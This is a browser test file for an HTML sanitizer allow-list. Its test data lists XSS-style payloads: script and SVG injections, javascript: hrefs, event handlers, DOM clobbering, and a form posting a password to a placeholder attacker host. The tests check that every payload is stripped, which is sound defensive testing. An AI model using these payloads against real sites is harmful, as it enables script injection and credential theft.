import { assert, loadBundle } from './helpers.js'

// Issue 13 C2: the sanitizer is an allow-list. The old blocklist let
// iframe, object, embed, form actions, link, style and nested wire-auth
// elements carrying token / backend attributes through. Each case runs on
// both paths: the browser's Sanitizer API (Chromium has `setHTML`) and the
// fallback walker (forced with `native = false`).

const HOSTILE = [
  ['iframe', '<iframe src="https://evil.example/"></iframe>', 'iframe'],
  ['iframe srcdoc', '<iframe srcdoc="<p>x</p>"></iframe>', 'iframe'],
  ['object', '<object data="https://evil.example/x.swf"></object>', 'object'],
  ['embed', '<embed src="https://evil.example/x">', 'embed'],
  ['link', '<link rel="stylesheet" href="https://evil.example/x.css">', 'link'],
  ['style element', '<style>body{display:none}</style>', 'style'],
  ['base', '<base href="https://evil.example/">', 'base'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">', 'meta'],
  ['script', '<script>window.__wireAuthPwned=1</script>', 'script'],
  ['svg script', '<svg><script>window.__wireAuthPwned=2</script></svg>', 'script'],
  ['svg animate', '<svg><animate attributeName="href" values="x;javascript:window.__wireAuthPwned=3"/></svg>', 'animate'],
  ['svg use', '<svg><use href="https://evil.example/s.svg#x"/></svg>', 'use'],
  ['template', '<template><img src=x onerror="window.__wireAuthPwned=4"></template>', 'template'],
  ['noscript', '<noscript><p>x</p></noscript>', 'noscript'],
  ['unknown custom element', '<evil-widget config="x"></evil-widget>', 'evil-widget'],
]

const ATTRIBUTE_CASES = [
  ['form action', '<form action="https://evil.example/steal" method="post"><input name="password"></form>', 'form', ['action', 'method']],
  ['formaction', '<form><button formaction="https://evil.example/" formmethod="post">go</button></form>', 'button', ['formaction', 'formmethod']],
  ['nested region token / backend', '<wire-auth-region fragment="profile" token="attacker.jwt.token" backend="https://evil.example"></wire-auth-region>', 'wire-auth-region', ['token', 'backend']],
  ['nested guard backend', '<wire-auth-guard backend="https://evil.example" redirect="/x"></wire-auth-guard>', 'wire-auth-guard', ['backend']],
  ['event handlers', '<div onclick="x()" ONMOUSEOVER="y()" onfocus="z()">f</div>', 'div', ['onclick', 'onmouseover', 'onfocus']],
  ['javascript: href', '<a href=" java\tscript:window.__wireAuthPwned=5">a</a>', 'a', ['href']],
  ['vbscript: href', '<a href="vbscript:x">a</a>', 'a', ['href']],
  ['data: link', '<a href="data:text/html,<script>1</script>">a</a>', 'a', ['href']],
  ['data: svg image', '<img src="data:image/svg+xml,<svg onload=alert(1)>">', 'img', ['src']],
  ['target', '<a href="/x" target="_blank">a</a>', 'a', ['target']],
  ['DOM clobbering id', '<img id="cookie" alt="x">', 'img', ['id']],
  ['DOM clobbering name', '<form><input name="action"></form>', 'input', ['name']],
  ['is=', '<p is="evil-p">x</p>', 'p', ['is']],
]

const BENIGN =
  '<section class="card" data-marker="admin" style="color: red"><h2 id="users-heading">Users</h2>' +
  '<a class="ok" href="/docs?q=javascript">docs</a> <a href="https://example.com/a">ext</a> <a href="mailto:a@example.com">mail</a>' +
  '<img alt="logo" src="/logo.png"><img alt="dot" src="data:image/png;base64,iVBORw0KGgo=">' +
  '<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>' +
  '<form class="inline" data-action="grant-form"><input name="claim" placeholder="team=eng" pattern="x" required aria-label="Claim"><button type="submit" class="button">Grant</button></form>' +
  '<button type="button" data-action="revoke" data-user-id="u1" title="Revoke" disabled>×</button>' +
  '<details open><summary>more</summary><p>inside</p></details>' +
  '<wire-auth-region fragment="profile" params=\'{"a":1}\'><p slot="else">else</p></wire-auth-region>' +
  '<svg viewBox="0 0 10 10" aria-hidden="true"><path d="M0 0L10 10" stroke="red"/></svg>' +
  '<!-- a comment --></section>'

describe('sanitizeFragment: an allow-list on both paths (issue 13 C2)', () => {
  let bundle
  before(async () => {
    bundle = await loadBundle()
  })

  it('this Chromium has the HTML Sanitizer API, so the native path is exercised', () => {
    assert.equal(typeof document.createElement('template').setHTML, 'function')
  })

  for (const native of [true, false]) {
    const path = native ? 'native setHTML' : 'fallback walker'

    const run = (html) => {
      const holder = document.createElement('div')
      holder.append(bundle.sanitizeFragment(html, document, native))
      return holder
    }

    for (const [label, html, tag] of HOSTILE) {
      it(`${path}: drops ${label}`, () => {
        const holder = run(`<p>before</p>${html}<p>after</p>`)
        assert.equal(holder.querySelector(tag), null, `${tag} survived: ${holder.innerHTML}`)
        assert.equal(holder.querySelectorAll('p').length >= 2, true, `the rest stays: ${holder.innerHTML}`)
        assert.equal(/<script|onerror|javascript:/i.test(holder.innerHTML), false, holder.innerHTML)
        assert.equal(window.__wireAuthPwned, undefined)
      })
    }

    for (const [label, html, tag, attributes] of ATTRIBUTE_CASES) {
      it(`${path}: strips ${label}`, () => {
        const holder = run(html)
        const element = holder.querySelector(tag)
        assert.ok(element, `${tag} itself is allowed: ${holder.innerHTML}`)
        for (const name of attributes) assert.equal(element.getAttribute(name), null, `${name} survived: ${holder.innerHTML}`)
      })
    }

    it(`${path}: keeps ordinary fragment markup (classes, styles, data-, aria-, forms without targets, tables, nested regions, SVG icons)`, () => {
      const holder = run(BENIGN)
      const expect = (selector) => assert.ok(holder.querySelector(selector), `${selector} missing: ${holder.innerHTML}`)
      expect('section.card[data-marker="admin"]')
      assert.equal(holder.querySelector('section').getAttribute('style'), 'color: red')
      expect('h2#users-heading')
      assert.equal(holder.querySelector('a.ok').getAttribute('href'), '/docs?q=javascript')
      expect('a[href="https://example.com/a"]')
      expect('a[href="mailto:a@example.com"]')
      expect('img[alt="logo"][src="/logo.png"]')
      expect('img[alt="dot"][src^="data:image/png"]')
      expect('th[scope="col"]')
      expect('td[colspan="2"]')
      expect('form.inline[data-action="grant-form"] input[name="claim"][required][aria-label="Claim"]')
      expect('button[type="submit"].button')
      expect('button[data-user-id="u1"][disabled][title="Revoke"]')
      expect('details[open] summary')
      expect('wire-auth-region[fragment="profile"][params] p[slot="else"]')
      expect('svg[viewBox] path[d][stroke]')
      assert.equal(holder.innerHTML.includes('<!--'), false, 'comments are dropped')
    })

    it(`${path}: parses inertly (an image in a dropped element never loads)`, async () => {
      const before = performance.getEntriesByType('resource').length
      run('<template><img src="/sanitize-inert-probe.png"></template><object><img src="/sanitize-inert-probe-2.png"></object>')
      await new Promise((resolve) => setTimeout(resolve, 100))
      const probes = performance.getEntriesByType('resource').slice(before).filter((entry) => entry.name.includes('sanitize-inert-probe'))
      assert.equal(probes.length, 0)
    })
  }
})
